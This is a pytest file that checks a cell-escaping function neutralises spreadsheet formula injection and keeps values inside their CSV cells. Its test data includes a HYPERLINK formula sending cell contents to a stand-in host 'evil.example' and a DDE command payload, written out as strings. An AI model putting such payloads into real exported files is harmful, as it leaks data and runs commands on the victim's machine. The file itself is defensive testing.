"""A28: no text that somebody typed becomes a formula in a spreadsheet, and none is lost."""

import csv
import io

import pytest

from partnership.documents.cells import cell, line

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "+44 151 000 0000",
    "-2 officers",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "  =1+1",
    "\u00a0\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    " \uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]
PLAIN = ["", "Budget", "2 - 1", "a=b", "'quoted'", "a@b.example", "\u20132", " indented", "¬"]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a28_a_formula_is_put_behind_an_apostrophe(text: str) -> None:
    assert cell(text) == f"'{text}"


def test_other_texts_stay_as_they_are() -> None:
    assert [cell(text) for text in PLAIN] == PLAIN


def test_a28_no_text_breaks_out_of_its_cell() -> None:
    texts = ['a",=1+1', "a\r\n=1+1", "a;=1+1", 'a"";=1+1\n"', *FORMULAS, *PLAIN]
    written = line(texts) + line(["next"])
    rows = list(csv.reader(io.StringIO(written, newline="")))
    assert rows == [[cell(text) for text in texts], ["next"]]
